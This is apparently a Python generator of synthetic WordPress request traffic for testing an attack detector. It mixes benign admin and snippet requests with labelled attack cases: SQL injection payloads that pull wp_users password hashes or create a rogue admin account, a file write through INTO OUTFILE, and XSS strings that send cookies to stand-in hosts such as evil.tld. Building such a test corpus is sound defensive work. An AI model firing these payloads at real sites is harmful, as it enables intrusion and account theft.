            pairs = [("action", "update"), ("menu", 3), ("menu-name", "Main menu"), ("menu-item-title[812]", "Menu & Prices"),
                     ("menu-item-url[813]", "https://%s/shop/?orderby=date" % host), ("menu-item-attr-title[812]", "Our \"daily\" menu"),
                     ("menu-item-classes[812]", "highlight cta"), ("menu-item-target[813]", "_blank"), ("menu-locations[primary]", "3"),
                     ("update-nav-menu-nonce", nonce(g.r)), ("save_menu", "Save Menu")]
            g.add("POST", host, "/wp-admin/nav-menus.php", query=[("menu", 3)], body=form(pairs), origin=True,
                  referer="/wp-admin/nav-menus.php", cookie=logged_in(g.r, host, "admin"))
        elif k == 4:
            pairs = [("option_page", "general"), ("action", "update"), ("_wpnonce", nonce(g.r)), ("_wp_http_referer", "/wp-admin/options-general.php"),
                     ("blogname", "Citycycling"), ("blogdescription", "Repairs, rentals & rides — since 2009"), ("siteurl", "https://%s" % host),
                     ("home", "https://%s" % host), ("new_admin_email", "admin@%s" % host), ("default_role", "subscriber"),
                     ("WPLANG", "en_GB"), ("timezone_string", "Europe/London"), ("date_format", "F j, Y"), ("time_format", "g:i a"),
                     ("start_of_week", "1"), ("submit", "Save Changes")]
            g.add("POST", host, "/wp-admin/options.php", body=form(pairs), origin=True, referer="/wp-admin/options-general.php",
                  cookie=logged_in(g.r, host, "admin"))
        elif k == 5:
            pairs = [("from", "profile"), ("checkuser_id", "3"), ("_wpnonce", nonce(g.r)), ("_wp_http_referer", "/wp-admin/profile.php"),
                     ("admin_color", "modern"), ("first_name", "Łukasz"), ("last_name", "Nowak-Wiśniewski"), ("nickname", "lukasz"),
                     ("display_name", "Łukasz N."), ("email", "lukasz@example.pl"), ("url", "https://lukasz.example.pl/"),
                     ("description", "Editor. Coffee nerd. <a href=\"https://mastodon.social/@lukasz\">@lukasz</a> — writes about bikes & espresso."),
                     ("pass1", ""), ("pass2", ""), ("action", "update"), ("user_id", "3"), ("submit", "Update Profile")]
            g.add("POST", host, "/wp-admin/profile.php", body=form(pairs), origin=True, referer="/wp-admin/profile.php", cookie=logged_in(g.r, host, "lukasz", admin=True))
        elif k == 6:
            g.add("GET", host, "/wp-admin/edit.php", query=[("s", g.r.choice(["coffee", "draft \"spring\"", "événement"])), ("post_status", "all"),
                                                             ("post_type", "post"), ("action", "-1"), ("m", "0"), ("cat", "0"), ("filter_action", "Filter"),
                                                             ("paged", "1"), ("action2", "-1")],
                  cookie=logged_in(g.r, host), referer="/wp-admin/edit.php")
        elif k == 7:
            admin_ajax(g, host, [("action", "inline-save"), ("_inline_edit", nonce(g.r)), ("post_title", "Q&A: \"Ask the roaster\""),
                                 ("post_name", "qa-ask-the-roaster"), ("mm", "05"), ("jj", "14"), ("aa", "2024"), ("hh", "10"), ("mn", "00"),
                                 ("ss", "00"), ("post_password", ""), ("post_category[]", "4"), ("tax_input[post_tag]", "q&a, roasting"),
                                 ("comment_status", "open"), ("_status", "publish"), ("post_view", "list"), ("screen", "edit-post"),
                                 ("post_ID", g.r.randint(10, 5000))], referer="/wp-admin/edit.php")
        else:
            admin_ajax(g, host, [("action", "wp-privacy-export-personal-data"), ("exporter", "1"), ("id", g.r.randint(1, 99)), ("page", "1"),
                                 ("security", nonce(g.r)), ("sendAsEmail", "false")], referer="/wp-admin/export-personal-data.php")


# --------------------------------------------------------------------------
# dev-content: code in posts, Custom HTML, snippet plugins (expect "pass")
# --------------------------------------------------------------------------

SNIPPETS = {
    "php-query": ("php", "<?php\nadd_action( 'pre_get_posts', function ( $query ) {\n    if ( ! is_admin() && $query->is_main_query() && $query->is_search() ) {\n        $query->set( 'post_type', array( 'post', 'product' ) );\n        $query->set( 'posts_per_page', 24 );\n    }\n} );"),
    "php-wpdb": ("php", "global $wpdb;\n$rows = $wpdb->get_results( $wpdb->prepare(\n    \"SELECT ID, post_title FROM {$wpdb->posts} WHERE post_status = %s AND post_date > %s ORDER BY post_date DESC LIMIT 10\",\n    'publish',\n    '2024-01-01'\n) );\nforeach ( $rows as $row ) {\n    echo '<li>' . esc_html( $row->post_title ) . '</li>';\n}"),
    "php-mimes": ("php", "add_filter( 'upload_mimes', function ( $mimes ) {\n    $mimes['svg']  = 'image/svg+xml';\n    $mimes['webp'] = 'image/webp';\n    unset( $mimes['exe'] );\n    return $mimes;\n} );"),
    "php-config": ("php", "// wp-config.php\ndefine( 'WP_DEBUG', true );\ndefine( 'WP_DEBUG_LOG', '/var/log/wordpress/debug.log' );\ndefine( 'WP_DEBUG_DISPLAY', false );\ndefine( 'DISALLOW_FILE_EDIT', true );\n$table_prefix = 'wp_';\nrequire_once ABSPATH . 'wp-settings.php';"),
    "php-rest": ("php", "add_action( 'rest_api_init', function () {\n  register_rest_route( 'acme/v1', '/stock/(?P<id>\\d+)', array(\n    'methods'  => 'GET',\n    'callback' => fn( $req ) => array( 'stock' => (int) get_post_meta( $req['id'], '_stock', true ) ),\n    'permission_callback' => '__return_true',\n  ) );\n} );"),
    "php-shell": ("php", "// flush object cache after deploy\n$out = shell_exec( 'wp cache flush --path=/var/www/html 2>&1' );\nerror_log( 'cache flush: ' . $out );\nif ( file_exists( WP_CONTENT_DIR . '/maintenance.php' ) ) { include WP_CONTENT_DIR . '/maintenance.php'; }"),
    "js-loadmore": ("javascript", "document.addEventListener('DOMContentLoaded', () => {\n  let page = 1;\n  const list = document.querySelector('#posts');\n  document.querySelector('#load-more').addEventListener('click', async () => {\n    const res = await fetch(`/wp-json/wp/v2/posts?page=${++page}&_embed`);\n    const posts = await res.json();\n    posts.forEach(p => list.insertAdjacentHTML('beforeend', `<li><a href=\"${p.link}\">${p.title.rendered}</a></li>`));\n  });\n});"),
    "js-jquery": ("javascript", "jQuery(function ($) {\n  $('.add-fav').on('click', function (e) {\n    e.preventDefault();\n    $.post(ajaxurl, { action: 'acme_fav', post_id: $(this).data('id'), _ajax_nonce: acme.nonce }, function (r) {\n      if (r.success) { $(e.target).text('★ Saved'); } else { alert(r.data.message); }\n    });\n  });\n});"),
    "sql-migrate": ("sql", "UPDATE wp_options SET option_value = 'https://new.example.com' WHERE option_name IN ('siteurl', 'home');\nUPDATE wp_posts SET guid = REPLACE(guid, 'http://old.example.com', 'https://new.example.com');\nSELECT meta_key, COUNT(*) AS n FROM wp_postmeta GROUP BY meta_key ORDER BY n DESC LIMIT 20;"),
    "sql-cleanup": ("sql", "-- remove revisions and orphaned meta\nDELETE FROM wp_posts WHERE post_type = 'revision';\nDELETE pm FROM wp_postmeta pm LEFT JOIN wp_posts p ON p.ID = pm.post_id WHERE p.ID IS NULL;\nSELECT option_name, LENGTH(option_value) FROM wp_options WHERE autoload = 'yes' ORDER BY 2 DESC LIMIT 10;"),
    "bash-wpcli": ("bash", "wp search-replace 'http://old.example.com' 'https://new.example.com' --all-tables --dry-run\ncurl -sO https://raw.githubusercontent.com/wp-cli/builds/gh-pages/phar/wp-cli.phar && chmod +x wp-cli.phar\nsudo -u www-data wp plugin update --all && wp cache flush"),
    "bash-hardening": ("bash", "# remove stray PHP files from uploads\nfind /var/www/html/wp-content/uploads -name '*.php' -print -delete\nchmod 640 /var/www/html/wp-config.php\ngrep -R \"eval(base64_decode\" /var/www/html/wp-content/ | cut -d: -f1 | sort -u"),
    "htaccess": ("apache", "<Files wp-config.php>\n  Require all denied\n</Files>\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteRule ^wp-content/uploads/.*\\.php$ - [F,L]\nRewriteCond %{QUERY_STRING} author=\\d\nRewriteRule ^ /? [L,R=301]\n</IfModule>"),
    "nginx": ("nginx", "location ~* /(?:uploads|files)/.*\\.php$ { deny all; }\nlocation = /xmlrpc.php { deny all; access_log off; }\nlocation ~ /\\.(?!well-known) { deny all; }\nlocation / { try_files $uri $uri/ /index.php?$args; }"),
}
TUTORIAL = [
    "Never build SQL by concatenation. This is vulnerable:\n\n$wpdb->query( \"DELETE FROM {$wpdb->posts} WHERE ID = \" . $_GET['id'] );\n\nAn attacker sends ?id=1 OR 1=1 and every post is gone. Use $wpdb->prepare( '... WHERE ID = %d', $id ) instead.",
    "Escape on output! If a plugin echoes $_GET['s'] without esc_html(), a link like /?s=<script>alert(document.cookie)</script> runs in the victim's browser.",
    "Path traversal 101: a download handler that does readfile( WP_CONTENT_DIR . '/exports/' . $_GET['file'] ) will happily serve ../../wp-config.php. Always use basename() and validate against a whitelist.",
    "Why unserialize() on user input is dangerous: a cookie like O:8:\"stdClass\":1:{s:4:\"file\";s:9:\"/tmp/x.log\";} instantiates objects whose __destruct() may run. Use json_decode() instead.",
]


def html_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@dev_gen("code-block")
def d_code_block(g):
    keys = list(SNIPPETS)
    for i in range(20):
        host = g.site()
        pid = g.r.randint(10, 6000)
        lang, code = SNIPPETS[keys[i % len(keys)]]
        if i % 3 == 0:
            blk = '<!-- wp:code -->\n<pre class="wp-block-code"><code>%s</code></pre>\n<!-- /wp:code -->' % html_escape(code)
        elif i % 3 == 1:
            blk = ('<!-- wp:syntaxhighlighter/code {"language":"%s","highlightLines":"2,3"} -->\n<pre class="wp-block-syntaxhighlighter-code">%s</pre>\n'
                   '<!-- /wp:syntaxhighlighter/code -->' % (lang, html_escape(code)))
        else:
            blk = ('<!-- wp:kevinbatdorf/code-block-pro {"code":%s,"language":"%s","theme":"nord"} -->\n<div class="wp-block-kevinbatdorf-code-block-pro"><pre class="shiki nord">%s</pre></div>\n'
                   '<!-- /wp:kevinbatdorf/code-block-pro -->' % (json.dumps(code), lang, html_escape(code)))
        content = ('<!-- wp:paragraph -->\n<p>Here is the snippet I use on every client site (tested with WP 6.5):</p>\n<!-- /wp:paragraph -->\n\n'
                   + blk + '\n\n<!-- wp:paragraph -->\n<p>Drop it into your child theme\'s <code>functions.php</code> or a snippets plugin.</p>\n<!-- /wp:paragraph -->')
        if i % 2 == 0:
            rest(g, "POST", host, "/wp/v2/posts/%d" % pid, {"id": pid, "title": "Snippet: %s" % keys[i % len(keys)], "content": content, "status": "publish"},
                 query=[("_locale", "user")], referer="/wp-admin/post.php?post=%d&action=edit" % pid)
        else:
            pairs = [("_wpnonce", nonce(g.r)), ("action", "editpost"), ("post_ID", pid), ("post_type", "post"), ("post_title", "Quick tip #%d" % i),
                     ("content", "[code lang=\"%s\"]\n%s\n[/code]\n\nQuestions? Leave a comment." % (lang, code)), ("post_status", "publish"), ("publish", "Publish")]
            g.add("POST", host, "/wp-admin/post.php", body=form(pairs), origin=True, referer="/wp-admin/post.php?post=%d&action=edit" % pid,
                  cookie=logged_in(g.r, host, "admin"))


CUSTOM_HTML = [
    "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-ABC123XYZ\"></script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('js', new Date());\n  gtag('config', 'G-ABC123XYZ', { anonymize_ip: true });\n</script>",
    "<div class=\"calendly-inline-widget\" data-url=\"https://calendly.com/lumen/tasting?hide_gdpr_banner=1\" style=\"min-width:320px;height:630px;\"></div>\n<script type=\"text/javascript\" src=\"https://assets.calendly.com/assets/external/widget.js\" async></script>",
    "<button type=\"button\" class=\"btn\" onclick=\"document.getElementById('menu-pdf').classList.toggle('open'); return false;\">Show menu</button>\n<div id=\"menu-pdf\"><iframe src=\"/wp-content/uploads/2024/05/menu.pdf#toolbar=0\" width=\"100%\" height=\"800\"></iframe></div>",
    "<form action=\"https://lumen.us21.list-manage.com/subscribe/post?u=abc123&amp;id=def456\" method=\"post\" target=\"_blank\">\n  <input type=\"email\" name=\"EMAIL\" placeholder=\"you@example.com\" required>\n  <div style=\"position:absolute;left:-5000px\" aria-hidden=\"true\"><input type=\"text\" name=\"b_abc123_def456\" tabindex=\"-1\" value=\"\"></div>\n  <input type=\"submit\" value=\"Subscribe\">\n</form>",
    "<script type=\"application/ld+json\">\n{\"@context\":\"https://schema.org\",\"@type\":\"Bakery\",\"name\":\"Larchwood Bakery\",\"openingHours\":\"Tu-Su 08:00-18:00\",\"address\":{\"@type\":\"PostalAddress\",\"streetAddress\":\"12 Mill Lane\"}}\n</script>",
    "<style>.promo{display:flex;gap:1rem}.promo img{max-width:40%}@media(max-width:600px){.promo{flex-direction:column}}</style>\n<div class=\"promo\"><img src=\"/wp-content/uploads/2024/05/promo.jpg\" alt=\"\" onerror=\"this.style.display='none'\"><p>Two for one, this week only.</p></div>",
]


@dev_gen("custom-html")
def d_custom_html(g):
    for i in range(10):
        host = g.site()
        pid = g.r.randint(10, 6000)
        html = CUSTOM_HTML[i % len(CUSTOM_HTML)]
        if i % 2 == 0:
            content = "<!-- wp:html -->\n%s\n<!-- /wp:html -->" % html
            rest(g, "POST", host, "/wp/v2/pages/%d" % pid, {"id": pid, "content": content}, query=[("_locale", "user")],
                 referer="/wp-admin/post.php?post=%d&action=edit" % pid, cookie=logged_in(g.r, host, "admin"))
        else:
            obj = {"id": "block-%d" % g.r.randint(2, 20), "sidebar": "sidebar-1",
                   "instance": {"raw": {"content": "<!-- wp:html -->\n%s\n<!-- /wp:html -->" % html}}}
            rest(g, "PUT", host, "/wp/v2/widgets/%s" % obj["id"], obj, query=[("_locale", "user")], referer="/wp-admin/widgets.php",
                 cookie=logged_in(g.r, host, "admin"))


@dev_gen("snippet-plugin")
def d_snippet_plugin(g):
    php_keys = ["php-query", "php-mimes", "php-rest", "php-shell", "php-wpdb"]
    for i in range(12):
        host = g.site()
        k = i % 3
        if k == 0:
            code = SNIPPETS[php_keys[i % len(php_keys)]][1].replace("<?php\n", "")
            pairs = [("snippet_name", "Tweak: %s" % php_keys[i % len(php_keys)]), ("snippet_code", code), ("snippet_scope", "global"),
                     ("snippet_description", "<p>Added by Marta, see ticket #482.</p>"), ("snippet_tags", "woocommerce, search"),
                     ("snippet_priority", "10"), ("snippet_id", str(g.r.randint(1, 40))), ("_wpnonce", nonce(g.r)),
                     ("_wp_http_referer", "/wp-admin/admin.php?page=edit-snippet&id=5"), ("save_snippet_activate", "Save Changes and Activate")]
            g.add("POST", host, "/wp-admin/admin.php", query=[("page", "edit-snippet"), ("id", 5)], body=form(pairs), origin=True,
                  referer="/wp-admin/admin.php?page=edit-snippet&id=5", cookie=logged_in(g.r, host, "admin"))
        elif k == 1:
            code = SNIPPETS[php_keys[i % len(php_keys)]][1].replace("<?php\n", "")
            rest(g, "POST", host, "/code-snippets/v1/snippets/%d" % g.r.randint(1, 40),
                 {"name": "Limit search to posts+products", "code": code, "scope": "global", "active": True, "priority": 10, "tags": ["search"]},
                 referer="/wp-admin/admin.php?page=edit-snippet", cookie=logged_in(g.r, host, "admin"))
        else:
            pairs = [("ihaf_insert_header", CUSTOM_HTML[0] if i % 2 else CUSTOM_HTML[4]),
                     ("ihaf_insert_body", "<noscript><iframe src=\"https://www.googletagmanager.com/ns.html?id=GTM-ABC123\" height=\"0\" width=\"0\" style=\"display:none;visibility:hidden\"></iframe></noscript>"),
                     ("ihaf_insert_footer", "<script>document.querySelectorAll('a[href^=\"http\"]').forEach(a => { if (!a.href.includes(location.host)) a.rel = 'noopener'; });</script>"),
                     ("action", "wpcode_save_global_snippets"), ("_wpnonce", nonce(g.r)), ("_wp_http_referer", "/wp-admin/admin.php?page=wpcode-headers-footers")]
            g.add("POST", host, "/wp-admin/admin.php", query=[("page", "wpcode-headers-footers")], body=form(pairs), origin=True,
                  referer="/wp-admin/admin.php?page=wpcode-headers-footers", cookie=logged_in(g.r, host, "admin"))


@dev_gen("tutorial")
def d_tutorial(g):
    for i in range(8):
        host = g.r.choice(["kettle.dev", "blog.acme.io"])
        pid = g.r.randint(10, 6000)
        text = TUTORIAL[i % len(TUTORIAL)]
        if i % 2 == 0:
            paras = text.split("\n\n")
            content = "\n\n".join('<!-- wp:paragraph -->\n<p>%s</p>\n<!-- /wp:paragraph -->' % html_escape(p) if j % 2 == 0 else
                                  '<!-- wp:code -->\n<pre class="wp-block-code"><code>%s</code></pre>\n<!-- /wp:code -->' % html_escape(p)
                                  for j, p in enumerate(paras))
            rest(g, "POST", host, "/wp/v2/posts/%d" % pid, {"id": pid, "title": "WordPress security basics, part %d" % (i + 1), "content": content},
                 query=[("_locale", "user")], referer="/wp-admin/post.php?post=%d&action=edit" % pid, cookie=logged_in(g.r, host, "admin"))
        else:
            pairs = [("comment", "Good write-up. Small addition to your point:\n\n<code>%s</code>" % text), ("author", g.r.choice(NAMES)),
                     ("email", "dev%d@example.com" % i), ("url", "https://github.com/example-dev"), ("submit", "Post Comment"),
                     ("comment_post_ID", pid), ("comment_parent", "0")]
            g.add("POST", host, "/wp-comments-post.php", body=form(pairs), origin=True, referer="/security-basics/", cookie=visitor(g.r, host) or None)


# --------------------------------------------------------------------------
# attacks: plumbing
# --------------------------------------------------------------------------

ATTACKER_UAS = [
    "python-requests/2.31.0", "curl/7.88.1", "Go-http-client/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0", "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36", "okhttp/4.9.3",
]


def atk(g, method, path, query=None, body=None, ctype=None, host=None, ua=None, cookie=None, kind="api", headers=None, referer=None, origin=False):
    g.add(method, host or g.site(), path, query=query, body=body, ctype=ctype, kind=kind, ua=ua or g.r.choice(ATTACKER_UAS),
          cookie=cookie, headers=headers, referer=referer, origin=origin)


def atk_ajax(g, pairs, query=None, host=None, cookie=None, in_query=False, ua=None):
    """An admin-ajax.php call as exploit scripts send it: in the body or all in the query string."""
    if in_query:
        atk(g, "GET", "/wp-admin/admin-ajax.php", query=pairs, host=host, cookie=cookie, ua=ua)
    else:
        atk(g, "POST", "/wp-admin/admin-ajax.php", query=query, body=form(pairs), host=host, cookie=cookie, ua=ua,
            headers=[["X-Requested-With", "XMLHttpRequest"]])


def subscriber(g, host):
    """Cookies of a low-privilege account (subscriber / contributor) the attacker registered."""
    return logged_in(g.r, host, g.r.choice(["testuser1", "hax0r", "john1985", "contrib"]), admin=False)


# --------------------------------------------------------------------------
# attacks: SQL injection
# --------------------------------------------------------------------------

@attack_gen("sqli", "plugin-ajax")
def a_sqli_ajax(g):
    cases = [
        [("action", "ecsload"), ("query", '{"tax_query":{"0":{"field":"term_taxonomy_id","terms":["111) and extractvalue(rand(),concat(0x5e,user(),0x5e))#"]}}}'), ("ecs_ajax_settings", "{}")],
        [("action", "bookingpress_front_get_category_services"), ("_wpnonce", "8cc8b79544"), ("category_id", "33"),
         ("total_service", "-7502) UNION ALL SELECT @@version,@@version_comment,@@version_compile_os,1,2,3,4,5,6-- -")],
        [("action", "get_question"), ("question_id", "1 union select 1,1,char(116,101,115,116),user(),5,6,7,8,9,10,11")],
        [("action", "um_get_members"), ("directory_id", "b9238"), ("page", "1"), ("search", ""), ("sorting", "user_login,SLEEP(5)"), ("nonce", "a1b2c3d4e5")],
        [("action", "wpdm_get_files"), ("id", "1' AND (SELECT 4423 FROM (SELECT(SLEEP(5)))Xkzq)-- JHbh")],
        [("action", "load_more_posts"), ("post_id", "12 AND updatexml(1,concat(0x7e,(SELECT user_pass FROM wp_users WHERE ID=1)),1)"), ("page", "2")],
        [("action", "ajax_filter_posts"), ("orderby", "(CASE WHEN (SELECT SUBSTRING(user_pass,1,1) FROM wp_users WHERE ID=1)='$' THEN post_date ELSE post_title END)"), ("order", "ASC")],
        [("action", "wpgdprc_get_requests"), ("id", "-1 UNION SELECT user_login,user_pass,user_email,4,5 FROM wp_users#")],
        [("action", "hotel_booking_fetch_room"), ("room_id", "5'/**/aNd/**/1=(sElEcT/**/1/**/fRoM/**/(sElEcT/**/sLeEp(6))a)/**/aNd/**/'x'='x")],
        [("action", "forminator_load_form"), ("id", "1"), ("page_id", "2) /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(user_login,0x3a,user_pass),3 FROM wp_users-- -")],
        [("action", "ajax_search_posts"), ("keyword", "x%' AND 7716=7716 AND 'ZZ%'='ZZ"), ("category", "0")],
        [("action", "wps_get_orders"), ("order_id", "1;SELECT SLEEP(5);--")],
        [("action", "get_event_calendar"), ("month", "5"), ("year", "2024 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7176627071,(SELECT (ELT(1=1,1))),0x71786a7a71,0x78))s), 8446744073709551610, 8446744073709551610)))")],
        [("action", "save_poll_vote"), ("poll_id", "3"), ("answer_id", "1 OR 1=1-- -")],
        [("action", "lpr_search"), ("tax", "category"), ("term", "1') OR BENCHMARK(5000000,MD5(0x41))#")],
        [("action", "ml_products"), ("ids", "1,2,3) AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1)))-- -")],
    ]
    for i, pairs in enumerate(cases):
        atk_ajax(g, pairs, in_query=i % 3 == 2, cookie=subscriber(g, g.site()) if i % 4 == 1 else None)


@attack_gen("sqli", "plugin-rest")
def a_sqli_rest(g):
    cases = [
        ("GET", "/", [("rest_route", "/pmpro/v1/order"), ("code", "a' OR (SELECT 1 FROM (SELECT(SLEEP(1)))a)-- -")], None),
        ("GET", "/wp-json/wp-statistics/v2/hit", [("_", "11"), ("_wpnonce", "0ee4d8ebd5"), ("wp_statistics_hit_rest", ""), ("ip", "11.11.11.11"),
                                                  ("exclusion_match", "no"), ("ua", "Something"), ("track_all", "1"), ("timestamp", "11111111"),
                                                  ("current_page_type", "home"), ("current_page_id", "sleep(5)"), ("page_uri", "/"), ("user_id", "0")], None),
        ("GET", "/wp-json/lp/v1/courses/archive-course", [("c_only_fields", "post_title"), ("order_by", "ID AND (SELECT 1 FROM (SELECT(SLEEP(5)))x)")], None),
        ("GET", "/", [("rest_route", "/wpgmza/v1/markers"), ("filter", "{}"), ("fields", "* from wp_users-- -")], None),
        ("GET", "/wp-json/wc/store/products/collection-data",
         "calculate_attribute_counts[0][query_type]=or&calculate_attribute_counts[0][taxonomy]=%252522%252529%252520union%252520all%252520select%2525201%25252Cconcat%252528id%25252C0x3a%25252c%252522sqli-test%252522%252529from%252520wp_users%252520where%252520%252549%252544%252520%252549%25254E%252520%2525281%252529%25253B%252500", None),
        ("POST", "/wp-json/jet-engine/v1/listing/items", None, {"listing_id": 12, "query": {"orderby": "rand(1) AND (SELECT 1 FROM (SELECT SLEEP(5))a)"}, "page": 1}),
        ("POST", "/wp-json/wp-recipe-maker/v1/rating", None, {"recipe_id": "55 UNION SELECT user_login, user_pass FROM wp_users", "rating": 5}),
        ("GET", "/wp-json/tribe/events/v1/events", [("start_date", "2024-01-01"), ("categories", "1) AND 1=CONVERT(int,(SELECT @@version))--")], None),
        ("GET", "/wp-json/wp/v2/posts", [("per_page", "10"), ("orderby", "id"), ("order", "desc,(select*from(select(sleep(7)))a)")], None),
        ("GET", "/wp-json/ultimate-member/v1/members", [("directory", "1"), ("search", "admin' UNION SELECT 1,2,user_pass,4 FROM wp_users WHERE '1'='1")], None),
        ("POST", "/wp-json/simple-jwt-login/v1/users", None, {"email": "x@x.x", "user_id": "1 OR 1=1 LIMIT 1 INTO OUTFILE '/var/www/html/wp-content/uploads/x.php'"}),
        ("GET", "/wp-json/wc/v3/products", [("include", "1,2) or 1=1#"), ("consumer_key", "ck_x"), ("consumer_secret", "cs_x")], None),
    ]
    for i, (m, path, q, obj) in enumerate(cases):
        atk(g, m, path, query=q, body=js(obj) if obj is not None else None, ctype="application/json" if obj is not None else None, kind="rest")


@attack_gen("sqli", "plugin-file")
def a_sqli_file(g):
    atk(g, "POST", "/wp-content/plugins/wp-automatic/inc/csv.php",
        body="q=" + quote_plus("INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_url, user_registered, user_status, display_name) "
                               "VALUES ('eviladmin', '$P$BASbMqW0nlZRux/2IhCw7AdvoNI4VT0', 'eviladmin', 'eviladmin@mail.ru', 'http://127.0.0.1:8000', '2024-04-30 16:26:43', 0, 'eviladmin');")
        + "&auth=%00&integ=" + hexid(g.r))
    atk(g, "POST", "/wp-content/plugins/wp-automatic/inc/csv.php",
        body="q=" + quote_plus("SELECT IF(1=1,sleep(5),sleep(0));") + "&auth=%00&integ=" + hexid(g.r))
    atk(g, "GET", "/wp-content/plugins/wp-symposium/get_album_item.php", query=[("size", "version(); --")])
    atk(g, "GET", "/wp-content/plugins/olimometer/thermometer.php", query=[("olimometer_id", "-1 UNION SELECT 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,user_login,user_pass FROM wp_users")])
    atk(g, "GET", "/wp-content/plugins/easy-wp-smtp/", query=[("id", "1'||(SELECT 0x6a54696a WHERE 2374=2374 AND (SELECT 2374 FROM PG_SLEEP(5)))||'")])


@attack_gen("sqli", "cookie-header")
def a_sqli_cookie(g):
    for i in range(6):
        host = g.site()
        h = cookiehash(host)
        k = i % 3
        if k == 0:
            atk(g, "GET", "/", host=host, kind="page",
                cookie="wordpress_logged_in_%s=%s" % (h, quote('" AND (SELECT 1 FROM (SELECT(SLEEP(5)))x) AND "a"="a', safe="")))
        elif k == 1:
            atk(g, "GET", "/", host=host, kind="page", headers=[["X-Forwarded-For", "127.0.0.1' AND (SELECT 9113 FROM (SELECT(SLEEP(5)))abc) AND 'x'='x"]])
        else:
            atk(g, "GET", "/%s/" % g.r.choice(SLUGS), host=host, kind="page",
                headers=[["Referer", "https://www.google.com/search?q=1' UNION SELECT user_pass FROM wp_users-- -"]],
                cookie="wp_postpass_%s=1%%27%%20or%%20%%271%%27%%3D%%271" % h)


@attack_gen("sqli", "frontend-param")
def a_sqli_front(g):
    qs_ = [
        [("s", "x') UNION SELECT 1,2,3,user_login,user_pass,6,7 FROM wp_users#")],
        [("p", "1 AND 1=1")],
        [("cat", "1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT user_pass FROM wp_users LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)")],
        [("post_type", "product"), ("orderby", "price' AND SLEEP(5) AND '1"), ("min_price", "1")],
        [("author", "1 uNiOn sElEcT 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23")],
        [("page_id", "2%20and%20ascii(substring((select%20user_pass%20from%20wp_users%20limit%201),1,1))>64")],
    ]
    for i, q in enumerate(qs_):
        if i == 5:
            atk(g, "GET", "/", query="page_id=" + q[0][1], kind="page")
        else:
            atk(g, "GET", "/", query=q, kind="page")


# --------------------------------------------------------------------------
# attacks: XSS
# --------------------------------------------------------------------------

XSS = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "\"><svg/onload=fetch('//xss.evil-cdn.top/c?'+document.cookie)>",
    "<script src=https://cdn.evil-js.top/wp.js></script>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
    "<body onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "'-alert(1)-'",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<input autofocus onfocus=alert(1)>",
    "<script>var i=new Image();i.src='https://evil.tld/s.php?c='+btoa(document.cookie)</script>",
]


@attack_gen("xss", "comment")
def a_xss_comment(g):
    for i in range(9):
        host = g.site()
        pairs = [("comment", "Nice post! " + XSS[i % len(XSS)] if i % 3 else XSS[i % len(XSS)]), ("author", "Mike"),
                 ("email", "mike%d@mail.ru" % i), ("url", ""), ("submit", "Post Comment"), ("comment_post_ID", g.r.randint(1, 900)), ("comment_parent", "0")]
        if i % 3 == 1:
            pairs[1] = ("author", "<img src=x onerror=alert(1)>")
        if i % 3 == 2:
            pairs[3] = ("url", g.r.choice(["javascript:alert(document.cookie)", "http://x.y/\"onmouseover=\"alert(1)", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//"]))
        atk(g, "POST", "/wp-comments-post.php", body=form(pairs), host=host, kind="page", referer="https://%s/hello-world/" % host, origin=True)


@attack_gen("xss", "shortcode")
def a_xss_shortcode(g):
    codes = [
        "[gallery ids=\"1\" link=\"file\" size='x\" onmouseover=\"alert(document.cookie)']",
        "[su_button url=\"javascript:alert(document.domain)\" target=\"blank\"]Click[/su_button]",
        "[embed width=\"200\" height=\"100\"]https://x.y/\"><script>alert(1)</script>[/embed]",
        "[wp_ulike_counter id=\"1\" style=\"x\" onmouseover=alert(1) x=\"\"]",
        "[caption id=\"x\" align=\"alignleft\" width=\"1\"]<img src=x onerror=alert(1)> caption[/caption]",
        "[contact-form-7 id=\"12\" html_class='\"><img src=x onerror=alert(document.cookie)>']",
        "[elementor-template id=\"1\" title=\"<svg onload=alert(1)>\"]",
        "[video src=\"x.mp4\" poster='\" onerror=\"fetch(`//evil.tld/`+document.cookie)']",
    ]
    for i, sc in enumerate(codes):
        host = g.site()
        pid = g.r.randint(10, 6000)
        content = "<!-- wp:shortcode -->\n%s\n<!-- /wp:shortcode -->" % sc
        if i % 2 == 0:
            atk(g, "POST", "/wp-json/wp/v2/posts/%d" % pid, body=js({"id": pid, "content": content, "status": "pending"}), ctype="application/json",
                host=host, kind="rest", cookie=subscriber(g, host), headers=[["X-WP-Nonce", nonce(g.r)]], origin=True)
        else:
            pairs = [("_wpnonce", nonce(g.r)), ("action", "editpost"), ("post_ID", pid), ("post_title", "My first post"), ("content", sc),
                     ("post_status", "pending"), ("save", "Save Draft")]
